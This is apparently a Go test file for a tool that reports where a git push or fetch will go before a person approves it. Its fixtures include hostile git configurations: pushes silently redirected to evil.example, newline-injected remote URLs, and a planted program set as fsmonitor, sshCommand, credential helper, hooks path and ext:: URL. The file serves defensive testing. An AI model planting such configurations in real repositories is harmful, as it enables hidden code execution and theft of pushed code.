// SPDX-License-Identifier: Apache-2.0

package git

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/docker-hostexec/hostexec/exec/dir"
)

// remotesOf returns the description of the remotes in work for a command line.
func remotesOf(t *testing.T, work, words string) []string {
	t.Helper()
	d, err := dir.Open(work)
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	c := Check{Dir: d, Cwd: "/w", Args: strings.Fields(words), Run: func(ctx context.Context, d *dir.Dir, args []string, out io.Writer) error {
		cmd := exec.CommandContext(ctx, "git", args[1:]...)
		cmd.Dir, cmd.Stdout = d.Path(), out
		cmd.Env = append(os.Environ(), "HOME="+work, "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null")
		return cmd.Run()
	}}
	return c.Remotes(t.Context())
}

// repositoryWith returns a work tree whose repository has the configuration text.
func repositoryWith(t *testing.T, text string) (work string) {
	t.Helper()
	work = t.TempDir()
	if out, err := exec.Command("git", "init", "-q", work).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	f, err := os.OpenFile(filepath.Join(work, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
	return work
}

// TestRemotes shows where a push or a fetch goes, as git itself finds it.
func TestRemotes(t *testing.T) {
	work := repositoryWith(t, `[remote "origin"]
	url = https://you:secret@example.com/a.git
	pushurl = ex:evil/a.git
[remote "b"]
	url = https://example.com/b.git
[url "git@evil.example:"]
	insteadOf = ex:
`)
	const origin, b = "remote origin is git@evil.example:evil/a.git", "remote b is https://example.com/b.git"
	const unknown = " is no remote of the configuration: git may take it for an address"
	for words, want := range map[string][]string{
		"git push origin main":              {origin},
		"git push --force b":                {b},
		"git push":                          {b, origin},
		"git push -o x":                     {"x" + unknown, b, origin},
		"git push ex:c.git":                 {"git reads ex:c.git as git@evil.example:c.git", "ex:c.git" + unknown, b, origin},
		"git push --repo=ex:c.git":          {"git reads ex:c.git as git@evil.example:c.git", "ex:c.git" + unknown, b, origin},
		"git push evil origin":              {"evil" + unknown, origin},
		"git fetch origin":                  {"remote origin is https://you:***@example.com/a.git"},
		"git pull b main":                   {b},
		"git -c url.x.insteadOf=ex: push b": {b, "the options before push may change the remote"},
		"git -C sub push":                   {"its remote is not shown: hostexec does not know the options before git's command"},
		"git status":                        nil,
		"git commit -m push":                nil,
		"git remote add c ex:c":             nil,
		"git":                               nil,
	} {
		if got := remotesOf(t, work, words); !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", words, got, want)
		}
	}
	preset := repositoryWith(t, "[branch \"main\"]\n\tpushRemote = https://ghp_0123456789abcdefghij@evil.example/a.git\n[remote \"origin\"]\n\turl = https://example.com/a.git\n")
	if got, want := remotesOf(t, preset, "git push"), []string{"https://***@evil.example/a.git" + unknown, "remote origin is https://example.com/a.git"}; !slices.Equal(got, want) {
		t.Errorf("an address that a branch names: %q, want %q", got, want)
	}
	if got := remotesOf(t, repositoryWith(t, ""), "git push"); !slices.Equal(got, []string{"the repository has no remote"}) {
		t.Errorf("without a remote: %q", got)
	}
	many := ""
	for i := range maxRemotes + 3 {
		many += fmt.Sprintf("[remote \"r%02d\"]\n\turl = https://example.com/\n", i)
	}
	if got := remotesOf(t, repositoryWith(t, many), "git push"); len(got) != maxRemotes+1 || got[maxRemotes] != "there are 3 more remotes" {
		t.Errorf("many remotes: %q", got)
	}
	if got := remotesOf(t, t.TempDir(), "git push"); len(got) != 1 || !strings.HasPrefix(got[0], "its remote is not known: ") {
		t.Errorf("without a repository: %q", got)
	}
}

// TestRemotesWithLineBreaks writes addresses that look like those of other remotes, in the configuration and, as if it
// was changed since, in the list of remotes.
//
// Attack 260.
func TestRemotesWithLineBreaks(t *testing.T) {
	for _, key := range []string{"url", "pushurl"} {
		for _, value := range []string{`https://evil.example/x\norigin\thttps://good.example/a.git`, `https://evil.example/x (fetch)\norigin\thttps://good.example/a.git`} {
			work := repositoryWith(t, "[remote \"origin\"]\n\turl = https://good.example/a.git\n\t"+key+" = \""+value+"\"\n")
			if got := remotesOf(t, work, "git push origin"); !slices.Equal(got, []string{"its remote is not known: " + errAddress.Error()}) {
				t.Errorf("%s = %s: %q", key, value, got)
			}
		}
	}
	for _, list := range []string{
		"origin\thttps://a (fetch)\norigin\thttps://evil\norigin\thttps://a (push)\n", "origin\thttps://a (fetch)\norigin\thttps://evil (fetch)\norigin\thttps://a (push)\n",
		"origin\thttps://evil (fetch)\nb\thttps://a (fetch)\nb\thttps://a (push)\n", "origin\thttps://a (push)\n",
		"b\tx (fetch)\nb\tx (push)\nc\tx (fetch)\nc\tx (push)\nb\tx (fetch)\nb\tx (push)\n", "\n",
	} {
		if got, err := parseRemotes(list); err == nil {
			t.Errorf("%q: %v", list, got)
		}
	}
	if got, err := parseRemotes("b\thttps://a (fetch) [blob:none]\nb\thttps://a (push)\nb\thttps://c (push)\n"); err != nil || len(got) != 3 || got[2] != (remoteAddress{"b", "https://c", true}) {
		t.Errorf("%v, %v", got, err)
	}
}

// TestRemotesOfHostileRepository asks about repositories that a container has prepared. No program of theirs runs
// before a person has answered, and a pipe in place of a file causes no wait.
//
// Attack 261.
func TestRemotesOfHostileRepository(t *testing.T) {
	ran := filepath.Join(t.TempDir(), "ran")
	program := filepath.Join(t.TempDir(), "program")
	if err := os.WriteFile(program, []byte("#!/bin/sh\necho $0 $* >>"+ran+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for _, key := range strings.Fields(`core.fsmonitor core.sshCommand core.pager core.editor core.askPass core.gitProxy core.alternateRefsCommand
		diff.external credential.helper pager.remote alias.remote gpg.program remote.origin.vcs remote.origin.uploadpack remote.origin.receivepack
		uploadpack.packObjectsHook sequence.editor trace2.eventTarget trace2.normalTarget`) {
		section, sub, variable := split(key)
		value := program
		if section == "alias" {
			value = "!" + program
		}
		if sub != "" {
			section += ` "` + sub + `"`
		}
		fmt.Fprintf(&text, "[%s]\n\t%s = %s\n", section, variable, value)
	}
	text.WriteString("[core]\n\thooksPath = " + filepath.Dir(program) + "\n[remote \"origin\"]\n\turl = ext::" + program + "\n")
	work := repositoryWith(t, text.String())
	if got, want := remotesOf(t, work, "git -c core.pager="+program+" push origin"), "remote origin is ext::"+program; len(got) == 0 || got[0] != want {
		t.Errorf("%q, want %q", got, want)
	}
	if b, err := os.ReadFile(ran); err == nil {
		t.Errorf("it ran %s", b)
	}
	config := filepath.Join(work, ".git/config")
	if err := os.Remove(config); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(config, 0o600); err != nil {
		t.Fatal(err)
	}
	if got := remotesOf(t, work, "git push"); len(got) != 1 || !strings.HasPrefix(got[0], "its remote is not known: ") {
		t.Errorf("a pipe: %q", got)
	}
}
